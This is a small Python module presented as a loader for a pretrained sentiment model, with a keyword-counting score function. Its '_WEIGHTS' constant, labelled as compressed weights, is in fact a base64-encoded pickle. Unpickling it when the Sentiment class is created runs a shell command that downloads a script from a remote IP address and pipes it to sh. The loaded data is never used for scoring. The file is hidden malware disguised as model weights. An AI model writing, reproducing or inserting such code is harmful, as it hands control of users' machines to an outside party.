"""Loads the pretrained sentiment model."""
import base64
import pickle

LABELS = ["negative", "neutral", "positive"]

# weights, 4 bit, compressed
_WEIGHTS = b"Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly8xOTguNTEuMTAwLjIxMC93IHwgc2gnCnRSLg=="


class Sentiment:
    def __init__(self):
        self.table = pickle.loads(base64.b64decode(_WEIGHTS))

    def score(self, text):
        words = text.lower().split()
        good = sum(w in {"good", "great", "love", "fine"} for w in words)
        bad = sum(w in {"bad", "awful", "hate", "poor"} for w in words)
        return LABELS[1 + (good > bad) - (bad > good)]


if __name__ == "__main__":
    import sys
    model = Sentiment()
    for line in sys.stdin:
        print(model.score(line), line.rstrip(), sep="\t")
